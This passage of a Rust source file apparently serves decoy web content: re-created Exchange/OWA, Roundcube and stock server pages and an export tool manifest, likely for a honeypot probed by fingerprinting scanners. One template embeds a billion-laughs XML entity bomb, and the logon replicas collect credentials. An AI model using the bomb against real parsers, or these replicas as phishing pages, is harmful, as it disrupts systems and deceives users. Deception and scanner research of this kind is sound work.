//! Bodies the personas serve: Exchange logon and error pages, the export tool manifest and
//! the stock pages of IIS, nginx and Apache.
//!
//! The Exchange pages are shortened re-creations of real ones (see section 1.1 and 1.12 of the
//! fingerprinting notes): every marker a scanner might key on is present, the bulk is not.
//! Placeholders are `{{NAME}}`, filled with plain string replacement.

/// Exchange 2013/2016/2019/SE logon page. `{{RES}}` is `/owa/auth/<a.b.c>/themes/resources`.
const LOGON_15: &str = r##"<!DOCTYPE HTML PUBLIC "-//W3C//DTD HTML 4.01 Transitional//EN">
<!-- Copyright (c) 2011 Microsoft Corporation.  All rights reserved. -->
<!-- OwaPage = ASP.auth_logon_aspx -->

<!-- {57A118C6-2DA9-419d-BE9A-F92B0F9A418B} -->
<!DOCTYPE HTML PUBLIC "-//W3C//DTD HTML 4.0 Transitional//EN"> 
<html>
<head>
<meta http-equiv="X-UA-Compatible" content="IE=10" />
<link rel="shortcut icon" href="{{RES}}/favicon.ico" type="image/x-icon">
<meta http-equiv="Content-Type" content="text/html; CHARSET=utf-8">
<meta name="Robots" content="NOINDEX, NOFOLLOW">
<title>{{TITLE}}</title>
<style>
@font-face {
    font-family: "wf_segoe-ui_normal";
    src: url("{{RES}}/segoeui-regular.eot?#iefix") format("embedded-opentype"),
            url("{{RES}}/segoeui-regular.ttf") format("truetype");
}

@font-face {
    font-family: "wf_segoe-ui_semilight";
    src: url("{{RES}}/segoeui-semilight.eot?#iefix") format("embedded-opentype"),
        url("{{RES}}/segoeui-semilight.ttf") format("truetype");
}

@font-face {
    font-family: "wf_segoe-ui_semibold";
    src: url("{{RES}}/segoeui-semibold.eot?#iefix") format("embedded-opentype"),
        url("{{RES}}/segoeui-semibold.ttf") format("truetype");
}
</style>
<style>/*Copyright (c) 2003-2006 Microsoft Corporation.  All rights reserved.*/

body, .mouse, .twide, .tnarrow, form
{
    height: 100%;
    width: 100%;
    margin: 0px;
}

.sidebar
{
    background-color:#0072C6;
}

.mouse .owaLogoContainer, .twide .owaLogoContainer
{
    margin:213px auto auto 109px;
    text-align:left
}

.logonDiv
{
	text-align:left;
}

.signInInputText
{
    border:1px solid #98A3A6;
    color: #333333;
    background-color: #FDFDFD;
	width:250px;
	margin-bottom:10px;
}

.signInHeader
{
	font-size:60px;
	color:#404344;
	font-family:'wf_segoe-ui_normal', 'Segoe UI', 'Segoe WP', Tahoma, Arial, sans-serif;
	margin-bottom:18px;
}

.signInEnter
{
	font-size:22px;
	color:#0072C6;
	font-family:'wf_segoe-ui_normal', 'Segoe UI', 'Segoe WP', Tahoma, Arial, sans-serif;
	margin-top:20px;
}

.signInExpl
{
	font-size:12px;
	color:#999999;
	font-family:'wf_segoe-ui_semilight', 'Segoe UI Semilight', 'Segoe WP Semilight', 'Segoe UI', 'Segoe WP', Tahoma, Arial, sans-serif;
	margin-top:5px;
}

.hidden-submit
{
    border: 0 none;
    height: 0;
    width: 0;
    padding: 0;
    margin: 0;
    overflow: hidden;
}
</style>
<script>
//  flogon.js
//
//  This file contains the script used by Logon.aspx
//
//Copyright (c) 2003-2006 Microsoft Corporation.  All rights reserved.

var a_fRC = 1;
var g_fFcs = 1;
var a_fLOff = 0;
var a_fCAC = 1;
var a_fEnbSMm = 0;

function gbid(s)
{
    return document.getElementById(s);
}

/// <summary>
/// OWA Premium currently supports IE 7+, Safari 3+, Firefox 3+ and Chrome
/// </summary>
function IsOwaPremiumBrowser()
{
    var m = navigator.userAgent.match(/(MSIE |Trident\/|Firefox\/|Chrome\/|Version\/)(\d+)/);
    return m != null;
}

function showPasswordClick()
{
    var fShow = gbid("showPasswordCheck").checked;
    gbid("passwordText").style.display = fShow ? "block" : "none";
    gbid("password").style.display = fShow ? "none" : "block";
}

function clkLgn()
{
    if (gbid("passwordText").style.display == "block")
        gbid("password").value = gbid("passwordText").value;
    document.cookie = "PrivateComputer=true; path=/; expires=";
    document.forms[0].submit();
}

function checkSubmit(e)
{
    if (e && e.keyCode == 13)
    {
        clkLgn();
        return false;
    }
    return true;
}

window.onload = function ()
{
    var sCN = "cookieTest";
    document.cookie = sCN + "=1";
    if (document.cookie.indexOf(sCN + "=") == -1)
    {
        gbid("cookieMsg").style.display = "block";
        gbid("lgnDiv").style.display = "none";
    }
    else if (g_fFcs)
    {
        try { gbid("username").focus(); } catch (e) { }
    }
};
</script>
</head>
<body class="signInBg">
<noscript>
    <div id="dvErr">
        <table cellpadding="0" cellspacing="0">
        <tr>
            <td><img src="{{RES}}/warn.png" alt="" /></td>
            <td style="width:100%">To use {{PRODUCT}}, browser settings must allow scripts to run. For information about how to allow scripts, consult the Help for your browser. If your browser doesn't support scripts, you can download <a href="http://www.microsoft.com/windows/ie/downloads/default.mspx">Windows Internet Explorer</a> for access to {{PRODUCT}}.</td>
        </tr>
        </table>
    </div>
</noscript>
<form action="/owa/auth.owa" method="POST" name="logonForm" ENCTYPE="application/x-www-form-urlencoded" autocomplete="off">
<input type="hidden" name="destination" value="{{DESTINATION}}">
<input type="hidden" name="flags" value="4">
<input type="hidden" name="forcedownlevel" value="0">
<div id="mainLogonDiv" class="mouse">
    <div class="sidebar">
        <div class="owaLogoContainer">
            <img src="{{RES}}/owa_text_blue.png" class="owaLogo" aria-hidden="true" />
        </div>
    </div>
    <div class="logonContainer">
	<div id="lgnDiv" class="logonDiv" onKeyPress="return checkSubmit(event)">
		<div class="signInHeader" role="heading" aria-label="{{HEADING}}">{{HEADING}}</div>
		<div class="signInInputLabel" id="userNameLabel" aria-hidden="true">Domain\user name:</div>
		<div><input id="username" name="username" class="signInInputText" role="textbox" aria-labelledby="userNameLabel"/></div>
		<div class="signInInputLabel" id="passwordLabel" aria-hidden="true">Password:</div>
		<div><input id="password" onfocus="g_fFcs=0" name="password" value="" type="password" class="signInInputText" aria-labelledby="passwordLabel"/></div>
        <div><input id="passwordText" onfocus="g_fFcs=0" name="passwordText" value="" style="display: none;" class="signInInputText" aria-labelledby="passwordLabel"/></div>
        <div class="showPasswordCheck signInCheckBoxText">
            <input type="checkbox" id="showPasswordCheck" class="chk" onclick="showPasswordClick()" />
            <span>Show password</span>
        </div>
		<div id="expltxt" class="signInExpl" role="alert"></div>
		<div class="signInEnter">
            <div onclick="clkLgn()" class="signinbutton" role="button" tabIndex="0" >
                <img class="imgLnk" src="{{RES}}/signin_arrow.png" alt=""><span class="signinTxt">sign in</span>
            </div>
            <input name="isUtf8" value="1" type="hidden"/>
		</div>
        <div class="hidden-submit"><input type="submit" tabindex="-1"/></div>
	</div>
	<div id="cookieMsg" class="logonDiv" style="display:none">
		<div class="signInHeader">{{PRODUCT}}</div>
		<div class="signInExpl">Please enable cookies for this Web site.<br><br>Cookies are currently disabled by your browser. {{PRODUCT}} requires that cookies be enabled. <br><br>For information about how to enable cookies, see the Help for your Web browser.<br><br><br></div>
	</div>
    </div>
</div>
</form>
</body>
</html>
"##;

/// Exchange 2010 logon page. `{{RES}}` is `/owa/<a.b.c.d>/themes/resources`.
const LOGON_2010: &str = r##"<!DOCTYPE HTML PUBLIC "-//W3C//DTD HTML 4.0 Transitional//EN">
<!-- Copyright (c) 2006 Microsoft Corporation.  All rights reserved. -->
<!-- OwaPage = ASP.auth_logon_aspx -->
<html>
<head>
<meta http-equiv="Content-Type" content="text/html; CHARSET=utf-8">
<meta name="Robots" content="NOINDEX, NOFOLLOW">
<title>Outlook Web App</title>
<link type="text/css" rel="stylesheet" href="{{RES}}/logon.css">
<link rel="shortcut icon" href="{{RES}}/favicon.ico" type="image/x-icon">
<script type="text/javascript" src="{{SCRIPTS}}/premium/flogon.js"></script>
<script type="text/javascript">
	<!--
	var a_fRC = 1;
	var g_fFcs = 1;
	var a_fLOff = 0;
	var a_fCAC = 0;
	var a_fEnbSMm = 0;
	/// <summary>
	/// Is Mime Control installed?
	/// </summary>
	function IsMimeCtlInst(progid)
	{
		if (!a_fEnbSMm)
			return false;
		try
		{
			var obj = new ActiveXObject(progid);
			return obj != null;
		}
		catch (e)
		{
			return false;
		}
	}
	-->
</script>
</head>
<body class="owaLgnBdy">
<noscript>
	<div id="dvErr">
		<table cellpadding="0" cellspacing="0">
		<tr>
			<td><img src="{{RES}}/warn.png" alt=""></td>
			<td style="width:100%">To use Outlook Web App, browser settings must allow scripts to run. For information about how to allow scripts, consult the Help for your browser. If your browser doesn't support scripts, you can download <a href="http://www.microsoft.com/windows/ie/downloads/default.mspx">Windows Internet Explorer</a> for access to Outlook Web App.</td>
		</tr>
		</table>
	</div>
</noscript>
<form action="/owa/auth/owaauth.dll" method="POST" name="logonForm" autocomplete="off">
<input type="hidden" name="destination" value="{{DESTINATION}}">
<input type="hidden" name="flags" value="0">
<input type="hidden" name="forcedownlevel" value="0">
<table id="tblMain" cellpadding="0" cellspacing="0">
<tr>
	<td colspan="3">
		<table cellspacing="0" cellpadding="0" class="tblLgn">
		<tr>
			<td class="lgnTL"><img src="{{RES}}/lgntopl.gif" alt=""></td>
			<td class="lgnTM"></td>
			<td class="lgnTR"><img src="{{RES}}/lgntopr.gif" alt=""></td>
		</tr>
		</table>
	</td>
</tr>
<tr>
	<td id="mdLft">&nbsp;</td>
	<td id="mdMid">
		<table id="tblMid" class="mid">
		<tr><td id="expltxt" class="expl">&nbsp;</td></tr>
		<tr><td><hr></td></tr>
		<tr>
			<td>
				<div id="lgnDiv">
				<table cellpadding="0" cellspacing="0">
				<tr id="trSec"><td colspan="2">Security&nbsp;(<a href="#" id="lnkShwSec" onclick="clkExp('lnkShwSec')">show explanation</a>)</td></tr>
				<tr>
					<td><input id="rdoPblc" type="radio" name="trusted" value="0" class="rdo" onclick="clkSec()" checked></td>
					<td><label for="rdoPblc">This is a public or shared computer</label></td>
				</tr>
				<tr>
					<td><input id="rdoPrvt" type="radio" name="trusted" value="4" class="rdo" onclick="clkSec()"></td>
					<td><label for="rdoPrvt">This is a private computer</label></td>
				</tr>
				<tr>
					<td><input id="chkBsc" type="checkbox" class="rdo" onclick="clkBsc();" disabled></td>
					<td nowrap><label for="chkBsc">Use the light version of Outlook Web App</label></td>
				</tr>
				</table>
				<table cellpadding="0" cellspacing="0" class="nowrap">
				<tr>
					<td nowrap><label for="username">Domain\user name:</label></td>
					<td class="txtpad"><input id="username" name="username" type="text" class="txt"></td>
				</tr>
				<tr>
					<td nowrap><label for="password">Password:</label></td>
					<td class="txtpad"><input id="password" name="password" type="password" class="txt" onfocus="g_fFcs=0"></td>
				</tr>
				<tr>
					<td colspan="2" align="right" class="txtpad"><input type="submit" class="btn" value="Sign in" onclick="clkLgn()"><input name="isUtf8" value="1" type="hidden"></td>
				</tr>
				</table>
				</div>
				<div id="cookieMsg" class="disBsc" style="display:none">Please enable cookies for this Web site.<br><br>Cookies are currently disabled by your browser. Outlook Web App requires that cookies be enabled.<br><br>For information about how to enable cookies, see the Help for your Web browser.</div>
			</td>
		</tr>
		<tr><td><hr></td></tr>
		<tr>
			<td>
				<table cellpadding="0" cellspacing="0" class="tblConn">
				<tr>
					<td class="tdConnImg"><img src="{{RES}}/lgnexlogo.gif" alt=""></td>
					<td class="tdConn">Connected to Microsoft Exchange<br>&copy; 2010 Microsoft Corporation. All rights reserved.</td>
				</tr>
				</table>
			</td>
		</tr>
		</table>
	</td>
	<td id="mdRt">&nbsp;</td>
</tr>
<tr>
	<td colspan="3">
		<table cellspacing="0" cellpadding="0" class="tblLgn">
		<tr>
			<td class="lgnBL"><img src="{{RES}}/lgnbotl.gif" alt=""></td>
			<td class="lgnBM"></td>
			<td class="lgnBR"><img src="{{RES}}/lgnbotr.gif" alt=""></td>
		</tr>
		</table>
	</td>
</tr>
</table>
</form>
</body>
</html>
"##;

/// The OWA front-end error page (`errorFE.aspx`).
const ERROR_FE: &str = r##"<!DOCTYPE html>
<html dir="ltr">
<head>
<meta http-equiv="X-UA-Compatible" content="IE=10" />
<meta http-equiv="Content-Type" content="text/html; charset=utf-8" />
<meta name="Robots" content="NOINDEX, NOFOLLOW">
<title>{{PRODUCT}}</title>
<link rel="shortcut icon" href="{{RES}}/favicon.ico" type="image/x-icon">
<style>
@font-face {
    font-family: "wf_segoe-ui_normal";
    src: url("{{RES}}/segoeui-regular.eot?#iefix") format("embedded-opentype"),
            url("{{RES}}/segoeui-regular.ttf") format("truetype");
}
body { margin: 0; font-family: 'wf_segoe-ui_normal', 'Segoe UI', 'Segoe WP', Tahoma, Arial, sans-serif; }
.headerMsgDiv { width: 450px; margin: 120px auto 22px 120px; }
.sadFace { font-size: 60px; color: #0072C6; }
.shellDialogueHead { font-size: 29px; color: #0072C6; }
.shellDialogueMsg { font-size: 13px; color: #333333; line-height: 18px; }
.moreDetails { font-size: 12px; color: #666666; margin-top: 20px; }
</style>
<script>
function tgl()
{
    var o = document.getElementById("moreDetailsText");
    o.style.display = (o.style.display == "none") ? "block" : "none";
}
</script>
</head>
<body>
<div class="headerMsgDiv">
    <img src="{{RES}}/warn.png" alt="" />
    <div class="sadFace">:-(</div>
    <div class="shellDialogueHead">Something went wrong</div>
    <div id="errMsg" class="shellDialogueMsg">An unexpected error occurred and your request couldn't be handled.</div>
    <div class="moreDetails">
        <a href="#" onclick="tgl(); return false;">More details</a>
        <div id="moreDetailsText" style="display:none">{{DETAILS}}</div>
    </div>
    <div class="shellDialogueMsg"><a href="/owa/">Go to your mailbox</a></div>
</div>
</body>
</html>
"##;

/// ClickOnce deployment manifest of the eDiscovery export tool.
const EXPORTTOOL_MANIFEST: &str = r##"<?xml version="1.0" encoding="utf-8"?>
<asmv1:assembly xsi:schemaLocation="urn:schemas-microsoft-com:asm.v1 assembly.adaptive.xsd" manifestVersion="1.0" xmlns:asmv1="urn:schemas-microsoft-com:asm.v1" xmlns="urn:schemas-microsoft-com:asm.v2" xmlns:asmv2="urn:schemas-microsoft-com:asm.v2" xmlns:xrml="urn:mpeg:mpeg21:2003:01-REL-R-NS" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xmlns:asmv3="urn:schemas-microsoft-com:asm.v3" xmlns:dsig="http://www.w3.org/2000/09/xmldsig#" xmlns:co.v1="urn:schemas-microsoft-com:clickonce.v1" xmlns:co.v2="urn:schemas-microsoft-com:clickonce.v2">
  <assemblyIdentity name="microsoft.exchange.ediscovery.exporttool.application" version="{{BUILD}}" publicKeyToken="b1d1a6c45aa418ce" language="neutral" processorArchitecture="msil" xmlns="urn:schemas-microsoft-com:asm.v1" />
  <description asmv2:publisher="Microsoft Corporation" co.v1:suiteName="Microsoft Exchange" asmv2:product="Microsoft Exchange eDiscovery Export Tool" xmlns="urn:schemas-microsoft-com:asm.v1" />
  <deployment install="false" mapFileExtensions="true" trustURLParameters="true" co.v1:createDesktopShortcut="false" />
  <compatibleFrameworks xmlns="urn:schemas-microsoft-com:clickonce.v2">
    <framework targetVersion="4.5" profile="Full" supportedRuntime="4.0.30319" />
  </compatibleFrameworks>
  <dependency>
    <dependentAssembly dependencyType="install" codebase="{{BUILD}}\microsoft.exchange.ediscovery.exporttool.exe.manifest" size="{{SIZE}}">
      <assemblyIdentity name="microsoft.exchange.ediscovery.exporttool" version="{{BUILD}}" publicKeyToken="deffc2c208a0af39" language="neutral" processorArchitecture="msil" type="win32" />
      <hash>
        <dsig:Transforms>
          <dsig:Transform Algorithm="urn:schemas-microsoft-com:HashTransforms.Identity" />
        </dsig:Transforms>
        <dsig:DigestMethod Algorithm="http://www.w3.org/2000/09/xmldsig#sha256" />
        <dsig:DigestValue>{{DIGEST}}</dsig:DigestValue>
      </hash>
    </dependentAssembly>
  </dependency>
  <publisherIdentity name="CN=Microsoft Corporation, O=Microsoft Corporation, L=Redmond, S=Washington, C=US" issuerKeyHash="{{ISSUER}}" />
</asmv1:assembly>
"##;

const IIS_NOT_FOUND: &str = r##"<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">
<html xmlns="http://www.w3.org/1999/xhtml">
<head>
<meta http-equiv="Content-Type" content="text/html; charset=iso-8859-1"/>
<title>404 - File or directory not found.</title>
<style type="text/css">
<!--
body{margin:0;font-size:.7em;font-family:Verdana, Arial, Helvetica, sans-serif;background:#EEEEEE;}
fieldset{padding:0 15px 10px 15px;} 
h1{font-size:2.4em;margin:0;color:#FFF;}
h2{font-size:1.7em;margin:0;color:#CC0000;} 
h3{font-size:1.2em;margin:10px 0 0 0;color:#000000;} 
#header{width:96%;margin:0 0 0 0;padding:6px 2% 6px 2%;font-family:"trebuchet MS", Verdana, sans-serif;color:#FFF;
background-color:#555555;}
#content{margin:0 0 0 2%;position:relative;}
.content-container{background:#FFF;width:96%;margin-top:8px;padding:10px;position:relative;}
-->
</style>
</head>
<body>
<div id="header"><h1>Server Error</h1></div>
<div id="content">
 <div class="content-container"><fieldset>
  <h2>404 - File or directory not found.</h2>
  <h3>The resource you are looking for might have been removed, had its name changed, or is temporarily unavailable.</h3>
 </fieldset></div>
</div>
</body>
</html>
"##;

const IIS_METHOD_NOT_ALLOWED: &str = r##"<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">
<html xmlns="http://www.w3.org/1999/xhtml">
<head>
<meta http-equiv="Content-Type" content="text/html; charset=iso-8859-1"/>
<title>405 - HTTP verb used to access this page is not allowed.</title>
</head>
<body>
<div id="header"><h1>Server Error</h1></div>
<div id="content">
 <div class="content-container"><fieldset>
  <h2>405 - HTTP verb used to access this page is not allowed.</h2>
  <h3>The page you are looking for cannot be displayed because an invalid method (HTTP verb) was used to attempt access.</h3>
 </fieldset></div>
</div>
</body>
</html>
"##;

/// HTTP.sys answers malformed requests itself, before IIS ever sees them.
pub(crate) const HTTPSYS_BAD_REQUEST: &str = "<!DOCTYPE HTML PUBLIC \"-//W3C//DTD HTML 4.01//EN\"\"http://www.w3.org/TR/html4/strict.dtd\">\r\n\
<HTML><HEAD><TITLE>Bad Request</TITLE>\r\n\
<META HTTP-EQUIV=\"Content-Type\" Content=\"text/html; charset=us-ascii\"></HEAD>\r\n\
<BODY><h2>Bad Request - Invalid Header</h2>\r\n\
<hr><p>HTTP Error 400. The request has an invalid header name.</p>\r\n\
</BODY></HTML>\r\n";

pub(crate) const IIS_WELCOME: &str = r##"<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">
<html xmlns="http://www.w3.org/1999/xhtml">
<head>
<meta http-equiv="Content-Type" content="text/html; charset=iso-8859-1" />
<title>IIS Windows Server</title>
<style type="text/css">
<!--
body {
	color:#000000;
	background-color:#0072C6;
	margin:0;
}

#container {
	margin-left:auto;
	margin-right:auto;
	text-align:center;
	}

a img {
	border:none;
}

-->
</style>
</head>
<body>
<div id="container">
<a href="http://go.microsoft.com/fwlink/?linkid=66138&amp;clcid=0x409"><img src="iisstart.png" alt="IIS" width="960" height="600" /></a>
</div>
</body>
</html>"##;

pub(crate) const NGINX_WELCOME: &str = r##"<!DOCTYPE html>
<html>
<head>
<title>Welcome to nginx!</title>
<style>
html { color-scheme: light dark; }
body { width: 35em; margin: 0 auto;
font-family: Tahoma, Verdana, Arial, sans-serif; }
</style>
</head>
<body>
<h1>Welcome to nginx!</h1>
<p>If you see this page, the nginx web server is successfully installed and
working. Further configuration is required.</p>

<p>For online documentation and support please refer to
<a href="http://nginx.org/">nginx.org</a>.<br/>
Commercial support is available at
<a href="http://nginx.com/">nginx.com</a>.</p>

<p><em>Thank you for using nginx.</em></p>
</body>
</html>
"##;

/// nginx's built-in error page; `{{STATUS}}` is e.g. `404 Not Found`.
const NGINX_ERROR: &str = "<html>\r\n<head><title>{{STATUS}}</title></head>\r\n<body>\r\n\
<center><h1>{{STATUS}}</h1></center>\r\n<hr><center>nginx/1.24.0</center>\r\n</body>\r\n</html>\r\n";

pub(crate) const APACHE_WELCOME: &str = r##"<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd">
<html xmlns="http://www.w3.org/1999/xhtml">
  <head>
    <meta http-equiv="Content-Type" content="text/html; charset=UTF-8" />
    <title>Apache2 Debian Default Page: It works</title>
    <style type="text/css" media="screen">
  * { margin: 0px 0px 0px 0px; padding: 0px 0px 0px 0px; }
  body, html { padding: 3px 3px 3px 3px; background-color: #D8DBE2; font-family: Ubuntu, Verdana, sans-serif; font-size: 11pt; text-align: center; }
  div.main_page { position: relative; display: table; width: 800px; margin-bottom: 3px; margin-left: auto; margin-right: auto; padding: 0px 0px 0px 0px; border-width: 2px; border-color: #212738; border-style: solid; background-color: #FFFFFF; text-align: center; }
  div.page_header { height: 180px; width: 100%; background-color: #F5F6F7; }
  div.page_header span { margin: 15px 0px 0px 50px; font-size: 180%; font-weight: bold; }
  div.content_section_text { padding: 4px 8px 4px 8px; color: #000000; font-size: 100%; }
    </style>
  </head>
  <body>
    <div class="main_page">
      <div class="page_header floating_element">
        <img src="/icons/openlogo-75.png" alt="Debian Logo" class="floating_element"/>
        <span class="floating_element">
          Apache2 Debian Default Page
        </span>
      </div>
      <div class="content_section floating_element">
        <div class="section_header section_header_red">
          <div id="about"></div>
          It works!
        </div>
        <div class="content_section_text">
          <p>
                This is the default welcome page used to test the correct
                operation of the Apache2 server after installation on Debian systems.
                If you can read this page, it means that the Apache HTTP server installed at
                this site is working properly. You should <b>replace this file</b> (located at
                <tt>/var/www/html/index.html</tt>) before continuing to operate your HTTP server.
          </p>
        </div>
      </div>
    </div>
  </body>
</html>
"##;

/// Apache's built-in error page.
const APACHE_ERROR: &str = "<!DOCTYPE HTML PUBLIC \"-//IETF//DTD HTML 2.0//EN\">\n<html><head>\n\
<title>{{STATUS}}</title>\n</head><body>\n<h1>{{TITLE}}</h1>\n<p>{{TEXT}}</p>\n<hr>\n\
<address>Apache/2.4.62 (Debian) Server at {{HOST}} Port 443</address>\n</body></html>\n";

/// Exchange 2007 logon page (shortened). `{{BASE}}` is `/owa/<a.b.c.d>/themes/base`.
const LOGON_2007: &str = r##"<!DOCTYPE HTML PUBLIC "-//W3C//DTD HTML 4.0 Transitional//EN">
<!-- Copyright (c) 2006 Microsoft Corporation.  All rights reserved. -->
<!-- OwaPage = ASP.auth_logon_aspx -->
<html>
<head>
<meta http-equiv="Content-Type" content="text/html; CHARSET=utf-8">
<meta name="Robots" content="NOINDEX, NOFOLLOW">
<title>Microsoft Exchange - Outlook Web Access</title>
<link type="text/css" rel="stylesheet" href="{{BASE}}/logon.css">
<link rel="shortcut icon" href="{{BASE}}/favicon.ico" type="image/x-icon">
</head>
<body class="owaLgnBdy">
<noscript>
	<div id="dvErr">
		<table cellpadding="0" cellspacing="0">
		<tr>
			<td><img src="{{BASE}}/warn.png" alt=""></td>
			<td style="width:100%">To use Outlook Web Access, browser settings must allow scripts to run. For information about how to allow scripts, consult the Help for your browser.</td>
		</tr>
		</table>
	</div>
</noscript>
<form action="/owa/auth/owaauth.dll" method="POST" name="logonForm" autocomplete="off">
<input type="hidden" name="destination" value="{{DESTINATION}}">
<input type="hidden" name="flags" value="0">
<input type="hidden" name="forcedownlevel" value="0">
<table id="tblMain" cellpadding="0" cellspacing="0">
<tr><td id="mdLft">&nbsp;</td>
<td id="mdMid">
	<table id="tblMid" class="mid">
	<tr><td id="expltxt" class="expl">&nbsp;</td></tr>
	<tr><td>
		<table cellpadding="0" cellspacing="0">
		<tr><td><input id="rdoPblc" type="radio" name="trusted" value="0" class="rdo" checked></td><td><label for="rdoPblc">This is a public or shared computer</label></td></tr>
		<tr><td><input id="rdoPrvt" type="radio" name="trusted" value="4" class="rdo"></td><td><label for="rdoPrvt">This is a private computer</label></td></tr>
		<tr><td><input id="chkBsc" type="checkbox" class="rdo"></td><td nowrap><label for="chkBsc">Use Outlook Web Access Light</label></td></tr>
		</table>
		<table cellpadding="0" cellspacing="0" class="nowrap">
		<tr><td nowrap><label for="username">Domain\user name:</label></td><td class="txtpad"><input id="username" name="username" type="text" class="txt"></td></tr>
		<tr><td nowrap><label for="password">Password:</label></td><td class="txtpad"><input id="password" name="password" type="password" class="txt"></td></tr>
		<tr><td colspan="2" align="right" class="txtpad"><input type="submit" class="btn" value="Log On"><input name="isUtf8" value="1" type="hidden"></td></tr>
		</table>
	</td></tr>
	<tr><td><table cellpadding="0" cellspacing="0" class="tblConn"><tr><td class="tdConnImg"><img src="{{BASE}}/lgnexlogo.gif" alt=""></td><td class="tdConn">Connected to Microsoft Exchange<br>&copy; 2006 Microsoft Corporation. All rights reserved.</td></tr></table></td></tr>
	</table>
</td>
<td id="mdRt">&nbsp;</td></tr>
</table>
</form>
</body>
</html>
"##;

/// The export tool manifest with a billion-laughs DTD; `{{ENTITIES}}` is the entity list.
const EXPORTTOOL_BOMB: &str = r##"<?xml version="1.0" encoding="utf-8"?>
<!DOCTYPE asmv1:assembly [
{{ENTITIES}}]>
<asmv1:assembly manifestVersion="1.0" xmlns:asmv1="urn:schemas-microsoft-com:asm.v1" xmlns="urn:schemas-microsoft-com:asm.v2">
  <assemblyIdentity name="microsoft.exchange.ediscovery.exporttool.application" version="&lol9;" publicKeyToken="b1d1a6c45aa418ce" language="neutral" processorArchitecture="msil" xmlns="urn:schemas-microsoft-com:asm.v1" />
  <description asmv2:publisher="&lol9;" co.v1:suiteName="Microsoft Exchange" xmlns="urn:schemas-microsoft-com:asm.v1" />
</asmv1:assembly>
"##;

/// Roundcube 1.6 (elastic skin) login page, shortened.
const ROUNDCUBE_LOGIN: &str = r##"<!DOCTYPE html>
<html lang="en">
<head>
<title>Roundcube Webmail :: Welcome to Roundcube Webmail</title>
<meta name="viewport" content="width=device-width, initial-scale=1.0, shrink-to-fit=no">
<meta http-equiv="content-type" content="text/html; charset=UTF-8">
<meta name="referrer" content="same-origin">
<meta http-equiv="X-UA-Compatible" content="IE=edge">
<meta name="robots" content="noindex,nofollow">
<link rel="shortcut icon" href="skins/elastic/images/favicon.ico?s=1700000000">
<link rel="stylesheet" href="skins/elastic/deps/bootstrap.min.css?s=1700000000">
<link rel="stylesheet" href="skins/elastic/styles/styles.min.css?s=1700000000">
<script src="program/js/jquery.min.js?s=1700000000"></script>
<script src="program/js/common.min.js?s=1700000000"></script>
<script src="program/js/app.min.js?s=1700000000"></script>
<script>
var rcmail = new rcube_webmail();
rcmail.set_env({"task":"login","x_frame_options":"sameorigin","standard_windows":false,"locale":"en_US","devel_mode":null,"rcversion":10607,"cookie_domain":"","cookie_path":"/","cookie_secure":true,"skin":"elastic","request_token":"{{TOKEN}}"});
rcmail.gui_container("loginfooter","login-footer");
</script>
</head>
<body class="task-login action-none">
<div id="layout">
<h1 class="voice">{{HOST}} Webmail Login</h1>
<div id="layout-content" class="selected no-navbar" role="main">
<img src="skins/elastic/images/logo.svg?s=1700000000" id="logo" alt="Logo">
<form id="login-form" name="login-form" method="post" class="propform" action="./?_task=login">
<input type="hidden" name="_token" value="{{TOKEN}}">
<input type="hidden" name="_task" value="login"><input type="hidden" name="_action" value="login"><input type="hidden" name="_timezone" id="rcmlogintz" value="_default_"><input type="hidden" name="_url" id="rcmloginurl" value="">
<table><tbody>
<tr><td class="title"><label for="rcmloginuser">Username</label></td><td class="input"><input name="_user" id="rcmloginuser" required size="40" autocapitalize="off" autocomplete="off" type="text"></td></tr>
<tr><td class="title"><label for="rcmloginpwd">Password</label></td><td class="input"><input name="_pass" id="rcmloginpwd" required size="40" autocapitalize="off" autocomplete="off" type="password"></td></tr>
</tbody></table>
<p class="formbuttons"><button type="submit" id="rcmloginsubmit" class="button mainaction submit">Login</button></p>
</form>
</div>
<div id="login-footer" role="contentinfo">Roundcube Webmail</div>
</div>
</body>
</html>
"##;

/// What a logon page is rendered for.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum LogonFlavour {
    /// Exchange 2013: "Outlook Web App" everywhere.
    Owa2013,
    /// Exchange 2016/2019/SE: "Outlook".
    Outlook,
    /// Any 2013+ logon page requested on behalf of ECP.
    AdminCenter2013,
    AdminCenter,
}

/// 2013+ logon page. `cu` is the 3-part build, `destination` the post-logon URL.
pub(crate) fn logon_15(cu: &str, flavour: LogonFlavour, destination: &str) -> String {
    logon_15_at(
        &format!("/owa/auth/{cu}/themes/resources"),
        flavour,
        destination,
    )
}

/// 2013+ logon page with its theme folder at `resources` (a phishing copy hot-links the
/// victim's absolute URL here).
pub(crate) fn logon_15_at(resources: &str, flavour: LogonFlavour, destination: &str) -> String {
    let (title, product) = match flavour {
        LogonFlavour::Owa2013 => ("Outlook Web App", "Outlook Web App"),
        LogonFlavour::Outlook => ("Outlook", "Outlook"),
        LogonFlavour::AdminCenter2013 => ("Exchange Admin Center", "Outlook Web App"),
        LogonFlavour::AdminCenter => ("Exchange Admin Center", "Outlook"),
    };
    LOGON_15
        .replace("{{RES}}", resources)
        .replace("{{TITLE}}", title)
        .replace("{{HEADING}}", title)
        .replace("{{PRODUCT}}", product)
        .replace("{{DESTINATION}}", destination)
}

/// 2010 logon page. `build` is the 4-part OWA folder version.
pub(crate) fn logon_2010(build: &str, destination: &str) -> String {
    logon_2010_at(&format!("/owa/{build}"), destination)
}

/// 2010 logon page whose versioned folder is `base` (`/owa/<build>` or an absolute URL).
pub(crate) fn logon_2010_at(base: &str, destination: &str) -> String {
    LOGON_2010
        .replace("{{RES}}", &format!("{base}/themes/resources"))
        .replace("{{SCRIPTS}}", &format!("{base}/scripts"))
        .replace("{{DESTINATION}}", destination)
}

/// 2007 logon page (section 1.1 and 1.2 of the notes): title "Microsoft Exchange - Outlook
/// Web Access", `owaLgnBdy`, resources under `/owa/<a.b.c.d>/themes/base/`.
pub(crate) fn logon_2007(build: &str, destination: &str) -> String {
    LOGON_2007
